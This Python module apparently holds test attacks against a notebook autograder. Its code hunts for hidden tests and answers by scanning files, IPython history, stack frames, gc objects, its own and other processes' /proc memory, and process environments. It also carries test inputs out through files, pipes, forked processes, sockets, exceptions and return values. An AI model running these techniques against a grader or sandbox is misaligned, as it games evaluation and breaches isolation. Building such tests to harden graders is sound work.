"""Attacks that look for hidden tests, and that carry out what a test gave them."""

from .attack import by_answers, by_code

LOOK = {
    "the source notebook and all about it": """
import glob
for path in glob.glob(os.path.join(COURSE, "**"), recursive=True):
    try:
        find(open(path, "rb").read().decode("latin-1"))
    except OSError:
        pass
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in folder:
        continue
    for name in names:
        if name.endswith((".ipynb", ".db", ".json", "judge.py", ".sqlite")):
            try:
                find(open(os.path.join(folder, name), "rb").read().decode("latin-1"))
            except OSError:
                pass
""",
    "history": """
shell = get_ipython()
find([globals().get(name) for name in ("In", "Out", "_ih", "_oh", "_i", "_ii", "_iii", "_dh")])
find(list(shell.history_manager.get_range(output=True)) if shell.history_manager else "")
import linecache
find(linecache.cache)
""",
    "stack frames": """
import inspect, threading
for frame in [sys._getframe(), *sys._current_frames().values()]:
    while frame:
        find(frame.f_code.co_consts)
        find(dict(frame.f_locals))
        try:
            find(inspect.getsource(frame))
        except (OSError, TypeError):
            pass
        frame = frame.f_back
""",
    "all objects": """
import gc, types
for one in gc.get_objects():
    try:
        find(one.co_consts if isinstance(one, types.CodeType) else vars(one))
        find(one if isinstance(one, (dict, list, tuple)) else "")
    except Exception:
        pass
""",
    "its own memory": """
def memory(process):
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as mem:
        for line in maps:
            if " rw" in line:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                try:
                    mem.seek(start)
                    piece = mem.read(min(end - start, 64 << 20))
                except OSError:
                    continue
                for wanted in ("orchid", "larkspur", "iris", "judge", "poppy"):
                    place = piece.find((SECRET + wanted).encode())
                    if place >= 0:
                        print("FOUND", piece[place : place + 60])
memory("self")
""",
    "the memory of others": """
for entry in filter(str.isdigit, os.listdir("/proc")):
    if inside and int(entry) != os.getpid():
        try:
            with open(f"/proc/{entry}/mem", "rb", 0) as mem, open(f"/proc/{entry}/maps") as maps:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    try:
                        mem.seek(start)
                        find(mem.read(min(end - start, 16 << 20)).decode("latin-1"))
                    except (OSError, OverflowError, ValueError):
                        pass
        except OSError:
            pass
""",
    "environments and command lines": """
for entry in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mountinfo", "status"):
        try:
            text = open(f"/proc/{entry}/{name}", "rb").read().decode("latin-1")
        except OSError:
            continue
        find(text)
        if name in ("environ", "cmdline") and (COURSE in text or HOME in text):
            escaped(f"/proc/{entry}/{name} names the course")
""",
}

# Whatever a test gives to the answer is kept in one of many ways, and shown by the last cell.
CARRY = {
    "a variable": ("kept = []", "kept.append(text)", "find(kept)"),
    "a file": (
        "",
        "open('kept', 'a').write(text)",
        "find(open('kept').read() if os.path.exists('kept') else '')",
    ),
    "a file elsewhere": (
        "import glob",
        """
for folder in ("/tmp", "/dev/shm", "/var/tmp", HOME):
    try:
        open(os.path.join(folder, MARK + "_kept"), "a").write(text)
    except OSError:
        pass
""",
        "[find(open(path).read()) for path in glob.glob(f'/*/{MARK}_kept')]",
    ),
    "shared memory": (
        "import mmap\nkept = mmap.mmap(-1, 1 << 16)",
        "kept.write(text.encode())",
        "find(kept[:].decode('latin-1'))",
    ),
    "a memory file": (
        "kept = os.memfd_create('kept')",
        "os.write(kept, text.encode())",
        "os.lseek(kept, 0, 0)\nfind(os.read(kept, 10**6))",
    ),
    "a pipe": (
        "ends = os.pipe()\nos.set_blocking(ends[0], False)",
        "os.write(ends[1], text.encode())",
        "try:\n    find(os.read(ends[0], 10**6))\nexcept OSError:\n    pass",
    ),
    "a process that stays": (
        """
ends = os.pipe()
if os.fork() == 0:
    os.close(ends[1])
    while True:
        text = os.read(ends[0], 10**6)
        if not text:
            os._exit(0)
        for number in range(64):
            try:
                os.write(number, text)
            except OSError:
                pass
        open("kept", "ab").write(text)
""",
        "os.write(ends[1], text.encode())",
        "import time\ntime.sleep(0.3)\nfind(open('kept').read() if os.path.exists('kept') else '')",
    ),
    "a server that stays": (
        """
import socket, threading
server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
server.bind("\\0kept")
heard = []
def listen():
    while True:
        heard.append(server.recv(10**6))
        print(heard[-1], flush=True)
threading.Thread(target=listen, daemon=True).start()
""",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(text.encode(), '\\0kept')",
        "find(heard)",
    ),
    "a thread that waits": (
        "import threading, time",
        "threading.Thread(target=lambda: (time.sleep(0.5), find(text), os.write(1, text.encode())))"
        ".start()",
        "time.sleep(1)",
    ),
    "the output of the answer": (
        "import logging, warnings",
        "print(text); sys.stderr.write(text); warnings.warn(text); logging.error(text)\n"
        "display(text); os.system(f'echo \"{text}\"')",
        "",
    ),
    "every descriptor": (
        "",
        """
for number in range(64):
    try:
        os.write(number, text.encode())
    except OSError:
        pass
for path in ("/dev/tty", "/dev/console", "/dev/stdout", "/dev/stderr", "/proc/1/fd/1", "/proc/1/fd/2"):
    try:
        open(path, "w").write(text)
    except OSError:
        pass
""",
        "",
    ),
    "the text of an exception": ("", "raise ValueError(text)", ""),
    "the name of an exception": ("", "raise type(text or 'E', (Exception,), {})(text)", ""),
    "notes and causes of an exception": (
        "",
        "error = KeyError(text)\nerror.add_note(text)\nraise error from RuntimeError(text)",
        "",
    ),
    "the value that is returned": ("", "return text", ""),
    "keys that are returned": ("", "return {text: text}", ""),
    "the name of a class that is returned": (
        "",
        "return type(text or 'E', (), {'__doc__': text})()",
        "",
    ),
    "an exception at the end": (
        "kept = []\nimport atexit\natexit.register(lambda: find(kept))",
        "kept.append(text)",
        "raise ValueError(kept)",
    ),
    "the next answers": (
        "kept = []",
        "kept.append(text)",
        """
def primes(n):
    raise ValueError(str(kept))
def standardize(x):
    print(kept)
    assert False, kept
""",
    ),
}


def _carrying(how: str, before: str, keep: str, end: str):
    indented = "".join(f"    {line}\n" for line in keep.strip().splitlines())
    right = "    return {w: text.lower().split().count(w) for w in text.lower().split()}\n"
    answer = f"{before}\ndef count_words(text):\n{indented}{right}"
    # An honest answer, but for what it does beside.
    return by_answers(f"carried out by {how}", {"count_words": answer}, end, at_most=2)


def _looking(where: str, code: str):
    indented = "".join(f"    {line}\n" for line in code.strip().splitlines())
    answer = f"def look():\n{indented}\nlook()\n"
    answer += "def count_words(text):\n    look()\n    return {}\n"
    answer += "def primes(n):\n    look()\n    raise ValueError(n)\n"
    return by_answers(f"look into {where}", {"count_words": answer}, "look()\n")


ATTACKS = [
    *(_looking(where, code) for where, code in LOOK.items()),
    *(_carrying(how, *parts) for how, parts in CARRY.items()),
    by_code(
        "hooks that see every cell",
        """
shell = get_ipython()
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, lambda *a: find([vars(one) for one in a] + [shell.user_ns.get("In")]))
shell.input_transformers_cleanup.append(lambda lines: find("".join(lines)) or lines)
sys.addaudithook(lambda event, values: find(values) if event in ("compile", "exec") else None)
""",
    ),
]
